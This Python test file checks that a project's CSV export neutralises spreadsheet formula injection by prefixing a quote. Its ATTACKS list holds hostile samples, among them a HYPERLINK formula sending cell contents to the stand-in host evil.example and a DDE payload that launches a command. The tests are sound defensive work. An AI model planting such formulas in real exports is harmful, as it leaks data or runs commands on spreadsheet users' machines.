"""Failure 5 of issue 17: no CSV export may carry a spreadsheet formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from benefice import csvout
from benefice.corpus.formats.writers import write_csv
from benefice.corpus.record import Record

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def test_formula_cells_are_prefixed_with_a_quote() -> None:
    for attack in ATTACKS:
        assert csvout.neutralise(attack) == "'" + attack


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in (-3.2, 3, "-3.2", "+1", "-1.5e-3", "3.2", "cohort", "", None, "a=b", "'quoted"):
        assert csvout.neutralise(value) == value
    assert csvout.neutralise("-3.2x") == "'-3.2x" and csvout.neutralise("-") == "'-"


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), min_size=1, max_size=5))
def test_no_cell_read_back_starts_a_formula(rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csvout.writer(buffer).writerows(rows)
    back = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(back) == len(rows)
    for written, original in zip(back, rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            if cell[:1] in csvout.FORMULA_START:
                assert csvout._PLAIN_NUMBER.fullmatch(cell)
            assert cell in (value, "'" + value)


def test_corpus_export_neutralises_titles_and_abstracts() -> None:
    buffer = io.StringIO()
    write_csv([Record(title=ATTACKS[0], abstract="@SUM(1)", year=2020, source_format="ris")], buffer)
    row = next(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert row["title"] == "'" + ATTACKS[0] and row["abstract"] == "'@SUM(1)" and row["year"] == "2020"


def test_dict_writer_neutralises_values() -> None:
    buffer = io.StringIO()
    writer = csvout.DictWriter(buffer, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "=1+1", "b": -4})
    assert buffer.getvalue() == "a,b\n'=1+1,-4\n"


def test_a_carriage_return_never_splits_a_row() -> None:
    buffer = io.StringIO()
    csvout.writer(buffer).writerows([["a\r=1+1", 2], ["b", 3]])
    assert buffer.getvalue() == '"a\r=1+1","2"\nb,3\n'
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["a\r=1+1", "2"], ["b", "3"]]
